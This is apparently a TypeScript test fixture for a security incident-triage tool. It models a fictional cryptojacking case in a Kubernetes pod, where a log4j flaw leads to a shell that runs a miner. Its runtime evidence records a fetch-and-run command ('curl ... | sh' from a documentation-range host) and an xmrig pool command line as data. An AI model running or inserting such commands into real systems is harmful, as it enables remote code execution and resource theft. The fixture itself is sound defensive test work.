import type { Fact } from '../../domain/evidence/fact.ts';
import {
  composePack,
  type EntityRef,
  EVIDENCE_PARTS,
  type EvidenceDraft,
  type EvidencePack,
  type EvidencePart,
  type EvidencePartName,
  type EvidenceSource,
  type Trust,
} from '../../domain/evidence/pack.ts';
import type { Workload } from '../../domain/workload.ts';

/**
 * The sample story as evidence: a Java service with a vulnerable log4j starts a shell that downloads and runs a miner, in a
 * pod whose service account is cluster-admin. All names are invented; addresses are from the documentation ranges.
 */
export const CONTAINER_ID = '9c'.repeat(32);
export const IMAGE = '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.42.0';
export const IMAGE_DIGEST = `sha256:${'3f'.repeat(32)}`;
const PREVIOUS_IMAGE = '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.41.3';
export const CONTAINER_NAME = '/k8s_checkout_checkout-6d9f7c5b8d-x2x9q_payments_0';
export const POD = 'checkout-6d9f7c5b8d-x2x9q';
export const OTHER_POD = 'checkout-6d9f7c5b8d-k7m4p';
export const POD_UID = '5e1f0c9a-7f3b-4d6e-9a51-0c1d2e3f4a5b';
export const BINDING_UID = '7a2b3c4d-1111-4222-8333-944455566677';
const HOST = 'ip-10-0-12-34.ec2.internal';
const GATHERED = '2025-10-14T09:18:30.000Z';

export const entity = {
  container: { kind: 'container', canonical: CONTAINER_ID, label: 'checkout' },
  pod: { kind: 'pod', canonical: `prod-eks/payments/${POD}`, label: `payments/${POD}` },
  otherPod: { kind: 'pod', canonical: `prod-eks/payments/${OTHER_POD}`, label: `payments/${OTHER_POD}` },
  deployment: {
    kind: 'workload',
    canonical: 'prod-eks/payments/Deployment/checkout',
    label: 'Deployment payments/checkout',
  },
  image: { kind: 'image', canonical: IMAGE_DIGEST, label: IMAGE },
  node: { kind: 'node', canonical: HOST, label: HOST },
  namespace: { kind: 'namespace', canonical: 'prod-eks/payments', label: 'payments' },
  cluster: { kind: 'cluster', canonical: 'prod-eks', label: 'prod-eks' },
  account: {
    kind: 'principal',
    canonical: 'prod-eks/payments/ServiceAccount/checkout',
    label: 'ServiceAccount payments/checkout',
  },
  binding: {
    kind: 'role-binding',
    canonical: 'prod-eks/ClusterRoleBinding/checkout-cluster-admin',
    label: 'ClusterRoleBinding checkout-cluster-admin',
  },
  service: { kind: 'service', canonical: 'prod-eks/payments/checkout', label: 'Service payments/checkout' },
  miner: { kind: 'process', canonical: `${CONTAINER_ID}/4711`, label: '4711 /tmp/.x/xmrig' },
  shell: { kind: 'process', canonical: `${CONTAINER_ID}/4690`, label: '4690 /bin/sh' },
  java: { kind: 'process', canonical: `${CONTAINER_ID}/1`, label: '1 /usr/bin/java' },
  file: { kind: 'file', canonical: '/tmp/.x/xmrig', label: '/tmp/.x/xmrig' },
  poolIp: { kind: 'ip', canonical: '203.0.113.50', label: '203.0.113.50' },
  poolName: { kind: 'domain', canonical: 'pool.example.net', label: 'pool.example.net' },
  log4j: { kind: 'package', canonical: 'jar/org.apache.logging.log4j_log4j-core@2.14.1', label: 'log4j-core 2.14.1' },
  log4shell: { kind: 'cve', canonical: 'CVE-2021-44228', label: 'CVE-2021-44228' },
  rapidReset: { kind: 'cve', canonical: 'CVE-2023-44487', label: 'CVE-2023-44487' },
} as const satisfies Record<string, EntityRef>;

export const WORKLOAD: Workload = {
  kind: 'pod',
  account: '111122223333',
  cluster: 'prod-eks',
  namespace: 'payments',
  pod: POD,
  controller: 'checkout',
  container: 'checkout',
  containerId: CONTAINER_ID,
  image: IMAGE,
  imageDigest: IMAGE_DIGEST,
  host: HOST,
};

function draft(
  source: EvidenceSource,
  trust: Trust,
  field: string,
  fact: Fact,
  entities: readonly EntityRef[],
): EvidenceDraft {
  return { source, trust, field, observedAt: GATHERED, fact, entities: [...entities] };
}

const cwpp = (field: string, fact: Fact, ...entities: EntityRef[]): EvidenceDraft =>
  draft('cwpp_api', 'vendor', field, fact, entities);
const workloadText = (field: string, fact: Fact, ...entities: EntityRef[]): EvidenceDraft =>
  draft('cwpp_api', 'attacker_influenced', field, fact, entities);
const cluster = (field: string, fact: Fact, ...entities: EntityRef[]): EvidenceDraft =>
  draft('kubernetes_api', 'own', field, fact, entities);

/** Whoever deploys a pod chooses its labels. */
const labelled = (field: string, fact: Fact, ...entities: EntityRef[]): EvidenceDraft =>
  draft('kubernetes_api', 'attacker_influenced', field, fact, entities);

const DRAFTS: Readonly<Record<EvidencePartName, readonly EvidenceDraft[]>> = {
  'alert-details': [
    cwpp(
      'GET /audits/incidents [0]',
      {
        kind: 'confirmation',
        confirmed: true,
        vendorRecord: '68ee2c16b2a8e98a1c36a9db',
        reason: 'the incident was read back and names the same container',
      },
      entity.container,
    ),
    cwpp(
      'GET /audits/incidents [0].audits[0]',
      {
        kind: 'alert',
        findingUid: '68ee2c16b2a8e98a1c36a9db',
        title: 'Crypto miner process',
        category: 'cryptoMinerProcess',
        rule: 'Default - alert on suspicious runtime behavior',
        message: '/tmp/.x/xmrig launched and is identified as a crypto miner',
        severity: 'high',
        occurredAt: '2025-10-14T09:15:52.000Z',
        techniques: ['T1496'],
      },
      entity.container,
    ),
    cwpp(
      'GET /containers [0]',
      {
        kind: 'container',
        name: CONTAINER_NAME,
        containerId: CONTAINER_ID,
        image: IMAGE,
        imageDigest: IMAGE_DIGEST,
        startedAt: '2025-10-14T08:59:41.000Z',
        entryPoint: '/usr/bin/java -jar /app/checkout.jar',
        listeningPorts: [8080],
      },
      entity.container,
      entity.image,
    ),
  ],
  'runtime-activity': [
    workloadText(
      'forensic[0]',
      {
        kind: 'process',
        pid: 1,
        path: '/usr/bin/java',
        commandLine: '/usr/bin/java -jar /app/checkout.jar',
        user: 'root',
        startedAt: '2025-10-14T08:59:41.000Z',
      },
      entity.java,
      entity.container,
    ),
    workloadText(
      'forensic[1]',
      {
        kind: 'process',
        pid: 4690,
        parentPid: 1,
        path: '/bin/sh',
        commandLine: 'sh -c curl -fsSL http://203.0.113.7/x.sh | sh',
        user: 'root',
        startedAt: '2025-10-14T09:15:40.000Z',
      },
      entity.shell,
      entity.container,
    ),
    workloadText(
      'forensic[2]',
      { kind: 'file-written', path: '/tmp/.x/xmrig', byPid: 4690, user: 'root', at: '2025-10-14T09:15:47.000Z' },
      entity.file,
      entity.container,
    ),
    workloadText(
      'forensic[3]',
      {
        kind: 'process',
        pid: 4711,
        parentPid: 4690,
        path: '/tmp/.x/xmrig',
        commandLine: '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333',
        user: 'root',
        startedAt: '2025-10-14T09:15:50.000Z',
        md5: 'c0ffee00c0ffee00c0ffee00c0ffee00',
      },
      entity.miner,
      entity.file,
      entity.container,
    ),
    workloadText(
      'forensic[4]',
      { kind: 'dns-query', domain: 'pool.example.net', at: '2025-10-14T09:15:51.000Z' },
      entity.poolName,
      entity.container,
    ),
  ],
  vulnerabilities: [
    cwpp(
      'GET /images [0].vulnerabilities[0]',
      {
        kind: 'vulnerability',
        cve: 'CVE-2021-44228',
        cvss: 10,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
        severity: 'critical',
        packageName: 'org.apache.logging.log4j_log4j-core',
        packageType: 'jar',
        packageVersion: '2.14.1',
        fixedIn: '2.15.0',
        imageDigest: IMAGE_DIGEST,
        exploitInTheWild: true,
        exploitPublic: true,
        remote: true,
      },
      entity.log4shell,
      entity.log4j,
      entity.image,
    ),
    cwpp(
      'GET /images [0].vulnerabilities[1]',
      {
        kind: 'vulnerability',
        cve: 'CVE-2023-44487',
        cvss: 7.5,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H',
        severity: 'high',
        packageName: 'org.apache.tomcat.embed_tomcat-embed-core',
        packageType: 'jar',
        packageVersion: '9.0.80',
        fixedIn: '9.0.81',
        imageDigest: IMAGE_DIGEST,
        exploitInTheWild: true,
        exploitPublic: true,
        remote: true,
      },
      entity.rapidReset,
      entity.image,
    ),
  ],
  workload: [
    labelled(
      `GET /api/v1/namespaces/payments/pods/${POD}`,
      {
        kind: 'pod',
        name: POD,
        namespace: 'payments',
        cluster: 'prod-eks',
        uid: POD_UID,
        node: HOST,
        ip: '10.0.33.17',
        phase: 'Running',
        createdAt: '2025-10-14T08:59:35.000Z',
        labels: { app: 'checkout' },
        serviceAccount: 'checkout',
        images: [{ container: 'checkout', image: IMAGE, digest: IMAGE_DIGEST }],
      },
      entity.pod,
      entity.namespace,
      entity.cluster,
      entity.node,
    ),
    cluster(
      'ownerReferences[1]',
      {
        kind: 'controller',
        controllerKind: 'Deployment',
        name: 'checkout',
        namespace: 'payments',
        uid: '11111111-2222-4333-8444-555555555555',
        replicas: 2,
      },
      entity.deployment,
    ),
    cluster(
      'spec.containers[0].securityContext',
      {
        kind: 'security-context',
        container: 'checkout',
        privileged: false,
        runsAsRoot: 'yes',
        hostNetwork: false,
        hostPid: false,
        allowPrivilegeEscalation: true,
        readOnlyRootFilesystem: false,
        addedCapabilities: [],
        hostPaths: [],
      },
      entity.pod,
    ),
    labelled(
      `GET /api/v1/namespaces/payments/pods/${OTHER_POD}`,
      {
        kind: 'pod',
        name: OTHER_POD,
        namespace: 'payments',
        cluster: 'prod-eks',
        uid: '66666666-2222-4333-8444-555555555555',
        labels: { app: 'checkout' },
        serviceAccount: 'checkout',
        images: [{ container: 'checkout', image: IMAGE, digest: IMAGE_DIGEST }],
      },
      entity.otherPod,
    ),
  ],
  identity: [
    cluster(
      'spec.serviceAccountName',
      { kind: 'service-account', name: 'checkout', namespace: 'payments', tokenMounted: true },
      entity.account,
      entity.pod,
    ),
    cluster(
      'GET /apis/rbac.authorization.k8s.io/v1/clusterrolebindings/checkout-cluster-admin',
      {
        kind: 'role-binding',
        bindingKind: 'ClusterRoleBinding',
        name: 'checkout-cluster-admin',
        uid: BINDING_UID,
        roleKind: 'ClusterRole',
        roleName: 'cluster-admin',
        subject: 'ServiceAccount/payments/checkout',
        subjectCount: 1,
        clusterAdmin: true,
      },
      entity.binding,
      entity.account,
    ),
  ],
  network: [
    workloadText(
      'connections[0]',
      {
        kind: 'connection',
        direction: 'outbound',
        sourceIp: '10.0.33.17',
        destinationIp: '203.0.113.50',
        destinationPort: 3333,
        at: '2025-10-14T09:15:52.000Z',
      },
      entity.poolIp,
      entity.container,
    ),
    cluster(
      'GET /api/v1/namespaces/payments/services [0]',
      { kind: 'service', name: 'checkout', namespace: 'payments', type: 'ClusterIP', exposed: false, ports: [8080] },
      entity.service,
    ),
  ],
  'recent-deployments': [
    cluster(
      'replicasets[0]',
      {
        kind: 'revision',
        controllerKind: 'Deployment',
        controller: 'checkout',
        revision: 7,
        createdAt: '2025-10-14T08:59:30.000Z',
        images: [IMAGE],
        current: true,
        previousImages: [PREVIOUS_IMAGE],
      },
      entity.deployment,
      entity.image,
    ),
  ],
  baseline: [],
  'threat-intel': [],
  history: [
    cwpp(
      'GET /profiles/container [0]',
      {
        kind: 'learned-behaviour',
        since: '2025-09-01T00:00:00.000Z',
        processes: ['/usr/bin/java'],
        outboundPorts: [443, 5432],
        domains: ['db.payments.svc.cluster.local'],
      },
      entity.image,
    ),
    draft(
      'history',
      'own',
      'the earlier incidents of this workload',
      { kind: 'gap', missing: 'incidents before 2025-09-01', reason: 'they are kept for 45 days only' },
      [],
    ),
  ],
};

export function cryptoMinerParts(): EvidencePart[] {
  return EVIDENCE_PARTS.map((part) => ({
    part,
    gatheredAt: GATHERED,
    drafts: [...DRAFTS[part]],
    cost: { calls: 1, bytes: 1_000, milliseconds: 50 },
  }));
}

export function packOf(parts: readonly EvidencePart[]): EvidencePack {
  return composePack({ incidentId: 'inc-story', workload: WORKLOAD, vendorSeverity: 'high', parts });
}

export function cryptoMinerPack(): EvidencePack {
  return packOf(cryptoMinerParts());
}

/** The story without (or with other) evidence: `change` sees every draft and returns it, another one, or undefined to drop it. */
export function storyWith(change: (draft: EvidenceDraft) => EvidenceDraft | undefined): EvidencePack {
  return packOf(
    cryptoMinerParts().map((part) => ({
      ...part,
      drafts: part.drafts.flatMap((one) => {
        const changed = change(one);
        return changed === undefined ? [] : [changed];
      }),
    })),
  );
}
